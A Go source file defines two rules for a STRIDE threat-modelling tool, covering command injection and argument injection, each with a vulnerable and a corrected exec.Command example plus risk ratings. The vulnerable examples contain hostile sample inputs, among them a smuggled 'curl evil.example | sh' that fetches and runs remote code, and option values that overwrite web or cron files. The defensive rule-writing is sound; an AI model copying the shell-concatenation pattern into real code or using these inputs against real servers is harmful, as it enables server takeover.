package command

import "github.com/gostride/gostride/stride"

// Injection is the rule about commands that the caller writes.
var Injection = &stride.Rule{
	ID: "command-injection", Title: "The caller runs commands on the server", STRIDE: "E", Also: "TI",
	Reports: "A program, or a text for a shell, that holds something which the caller chooses.",
	Silent:  "Numbers, UUIDs, members of an allow-list. Commands of the command line itself. Arguments of a fixed program: see argument-injection.",
	Before:  `exec.Command("sh", "-c", "convert "+name+" out.png").Run() // name=x; curl evil.example | sh`,
	After:   `exec.Command("convert", "--", path, "out.png").Run() // no shell, a path that the server made`,
	CWE:     []string{"CWE-78"}, CAPEC: []string{"CAPEC-88"}, ASVS: []string{"v5.0.0-1.2.5"},
	Likelihood: "High", LikelihoodWhy: "the request itself carries the command",
	Impact: "Critical", ImpactWhy: "the server does whatever its account may do",
	Action: "Run a fixed program without a shell, with arguments from a fixed list or made by the server.", Effort: "Medium",
}

// Argument is the rule about arguments that the caller writes.
var Argument = &stride.Rule{
	ID: "argument-injection", Title: "The caller chooses an option of a program", STRIDE: "E", Also: "TI",
	Reports: "An argument of a fixed program that begins with something which the caller chooses: no shell reads it, but it may be an option, such as --output=/etc/cron.d/x.",
	Silent:  "Numbers, UUIDs, members of an allow-list, arguments behind \"--\", what stands in an argument behind something of the program's own (\"files/\" + name).",
	Before:  `exec.Command("convert", name, "out.png").Run() // name=-write=/srv/index.html`,
	After:   `exec.Command("convert", "--", name, "out.png").Run()`,
	CWE:     []string{"CWE-88"}, CAPEC: []string{"CAPEC-6"}, ASVS: []string{"v5.0.0-1.2.5"},
	Likelihood: "Medium", LikelihoodWhy: "it takes a program with an option that does harm",
	Impact: "High", ImpactWhy: "many programs write files or run others when an option says so",
	Action: "Put -- in front of what the caller chooses, and hold it to what the program is meant to get.", Effort: "Low",
}
